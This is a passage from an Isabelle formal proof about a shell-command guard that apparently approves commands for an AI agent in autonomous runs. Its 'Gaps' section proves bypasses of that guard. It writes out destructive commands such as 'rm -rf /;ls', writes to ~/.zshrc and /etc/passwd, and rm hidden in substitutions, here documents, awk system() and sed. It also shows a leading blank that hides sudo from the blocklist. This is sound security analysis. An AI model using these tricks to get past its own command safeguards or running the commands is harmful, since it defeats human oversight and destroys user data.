    by code_simp
  moreover have "ACTIVE_WINDOW_SECONDS \<le> clock sample_machine - 0"
    by (simp add: ACTIVE_WINDOW_SECONDS_def sample_machine_def)
  ultimately show ?thesis
    using stale_marker_inactive by blast
qed

text \<open>
  C31: the effective workspaces of a payload are pairwise different, and each is a resolved
  absolute path.
\<close>

theorem effective_workspaces_resolved:
  assumes "machine_ok m" "get_effective_workspaces m payload = Inr wss"
  shows "distinct wss \<and> list_all resolved wss"
  using effective_workspaces_distinct [OF assms(2)] resolved_workspaces [OF assms(2,1)] by blast

lemma effective_workspaces_resolved_witness:
  "get_effective_workspaces sample_machine (shell_payload ''ls'') = Inr [''/work''] \<and> resolved ''/work''"
proof -
  have "machine_ok sample_machine" "get_effective_workspaces sample_machine (shell_payload ''ls'') = Inr [''/work'']"
    by code_simp+
  with effective_workspaces_resolved [OF this] show ?thesis
    by simp
qed

text \<open>
  the string test \<^verbatim>\<open>p == ws or p.startswith(ws + "/")\<close> is containment of directories on
  resolved paths, except that only the root itself is inside the root.
\<close>

theorem containment:
  assumes "list_all clean_comp cs" "list_all clean_comp ws"
  shows "inside (path_string cs) (path_string ws) \<longleftrightarrow> (if ws = [] then cs = [] else prefix ws cs)"
  using assms by (rule inside_iff)

lemma containment_witness: "\<not> inside ''/workshop/a'' ''/work''"
proof -
  have "list_all clean_comp [''workshop'', ''a'']" "list_all clean_comp [''work'']"
    by code_simp+
  from containment [OF this] show ?thesis
    by (simp add: path_string_def)
qed

section \<open>Gaps in the Tier 1 analysis\<close>





text \<open>
  C39: any reading program of the guard's list, with any plain arguments, is approved without write
  override when \<^verbatim>\<open>1>&\<close> and a file name follow, with which the shell writes its output to that file;
  with \<^verbatim>\<open>>\<close> in place of \<^verbatim>\<open>1>&\<close> it is approved only when the file is a safe special path.
\<close>

theorem output_unchecked:
  assumes "plain_command w" "command_name w \<in> set SAFE_READ_COMMANDS" "list_all plain_word us" "plain_target t"
  shows "evaluate_tier1_command 0 (words_text (w # us @ [''1>&'' @ t])) = (True, False) \<and>
    evaluate_tier1_command 0 (words_text (w # us @ [''>'' @ t])) =
      (if is_safe_special_target t [] then (True, True) else refuse)"
  using copied_approved [OF assms] redirected_verdict [OF assms] by (simp add: copies_to_def)

lemma output_unchecked_witness:
  "is_tier1_safe_command ''cat notes 1>&~/.zshrc'' \<and> \<not> is_tier1_safe_command ''cat notes >~/.zshrc''"
proof -
  have "plain_command ''cat''" "command_name ''cat'' \<in> set SAFE_READ_COMMANDS" "list_all plain_word [''notes'']"
    "plain_target ''~/.zshrc''" "\<not> is_safe_special_target ''~/.zshrc'' []"
    by code_simp+
  with output_unchecked [of "''cat''" "[''notes'']" "''~/.zshrc''"] show ?thesis
    by (simp add: is_tier1_safe_command_def tier1_ok_def refuse_def)
qed

text \<open>
  more ways in which Tier 1 approves a command line that does what it would not be allowed to do when
  asked plainly. The placeholder for a substitution is itself a safe target; the
  body of a here document, in which the shell substitutes, is removed unseen; a quote inside
  double quotes is taken for a single quote by the substitution scanner, so that the text between
  a quoted \<^verbatim>\<open>$((\<close> and a quoted \<^verbatim>\<open>))\<close> disappears with the command in it; and a redirection between
  two escaped quotes is taken for quoted text.
\<close>

theorem hidden_commands_approved:
  "\<not> is_tier1_safe_command ''rm -rf src'' \<and>
   is_tier1_safe_command ''rm -rf $(echo src)'' \<and>
   is_tier1_safe_command (''cat <<EOF'' @ [newline_char] @ ''$(rm -rf src)'' @ [newline_char] @ ''EOF'') \<and>
   is_tier1_safe_command (''echo '' @ [dquote, squote, dquote, CHR '' '', squote] @ ''$(('' @ [squote] @
     '' ; rm -rf src; echo '' @ [squote] @ ''))'' @ [squote]) \<and>
   \<not> is_tier1_safe_command ''echo x > ~/.zshrc'' \<and>
   is_tier1_safe_command (''echo '' @ [backslash, squote] @ '' > ~/.zshrc '' @ [backslash, squote])"
proof (intro conjI)
  show "\<not> is_tier1_safe_command ''echo x > ~/.zshrc''"
    by code_simp
  show "is_tier1_safe_command (''echo '' @ [backslash, squote] @ '' > ~/.zshrc '' @ [backslash, squote])"
    by code_simp
  show "\<not> is_tier1_safe_command ''rm -rf src''"
    by code_simp
  show "is_tier1_safe_command ''rm -rf $(echo src)''"
    by code_simp
  show "is_tier1_safe_command (''cat <<EOF'' @ [newline_char] @ ''$(rm -rf src)'' @ [newline_char] @ ''EOF'')"
    by code_simp
  show "is_tier1_safe_command (''echo '' @ [dquote, squote, dquote, CHR '' '', squote] @ ''$(('' @ [squote] @
     '' ; rm -rf src; echo '' @ [squote] @ ''))'' @ [squote])"
    by code_simp
qed

text \<open>
  Attached and later file names of the writing programs, other spellings of the acting flags, the programs that
  \<open>awk\<close> and \<open>sed\<close> run and a sign inside the target of a redirection are not seen either.
\<close>

theorem unseen_words_approved:
  "is_tier1_safe_command ''cp -t/etc /tmp/x'' \<and> is_tier1_safe_command ''rm /tmp/x -- -src'' \<and>
   is_tier1_safe_command ''sed -I x f'' \<and>
   is_tier1_safe_command (''awk '' @ [squote] @ ''BEGIN{system(\"rm -rf src\")}'' @ [squote]) \<and>
   is_tier1_safe_command (''sed '' @ [squote] @ ''1e rm -rf src'' @ [squote] @ '' f'') \<and>
   is_tier1_safe_command ''echo x >build/a>/etc/passwd''"
proof (intro conjI)
  show "is_tier1_safe_command ''cp -t/etc /tmp/x''"
    by code_simp
  show "is_tier1_safe_command ''rm /tmp/x -- -src''"
    by code_simp
  show "is_tier1_safe_command ''sed -I x f''"
    by code_simp
  show "is_tier1_safe_command (''awk '' @ [squote] @ ''BEGIN{system(\"rm -rf src\")}'' @ [squote])"
    by code_simp
  show "is_tier1_safe_command (''sed '' @ [squote] @ ''1e rm -rf src'' @ [squote] @ '' f'')"
    by code_simp
  show "is_tier1_safe_command ''echo x >build/a>/etc/passwd''"
    by code_simp
qed

text \<open>
  Removals of a root that the blocklist misses: a separator directly after the root, quotes around it, a second
  slash, a parenthesis after it. In an autonomous run they are allowed.
\<close>

definition missed_removals :: "string list" where
  "missed_removals = [''rm -rf /;ls'', ''rm -rf ~;ls'', ''rm -rf /&& ls'', ''rm -rf //'', ''(rm -rf /)'',
     ''rm -rf '' @ [squote] @ ''/'' @ [squote], ''rm -rf '' @ [dquote] @ ''$HOME'' @ [dquote]]"

theorem missed_removals_allowed:
  assumes "cmd \<in> set missed_removals" "asks_command payload cmd"
    "is_subagent_or_autonomous_active m payload = (m', Inr True)"
  shows "evaluate_hook m payload = (m', Inr (Allow True))"
proof -
  have "list_all (\<lambda>c. \<not> is_dangerous_command c \<and> \<not> fst (evaluate_tier1_command 0 c)) missed_removals"
    by code_simp
  then show ?thesis
    using assms by (auto simp: evaluate_command list_all_iff)
qed

text \<open>
  white space at the start of a line hides a privileged command from the blocklist, which
  catches it without the blank and after a separator with one.
\<close>

theorem leading_blank_not_caught:
  "\<not> is_dangerous_command '' sudo id'' \<and> is_dangerous_command ''sudo id'' \<and>
   is_dangerous_command ''ls; sudo id''"
  by code_simp

end
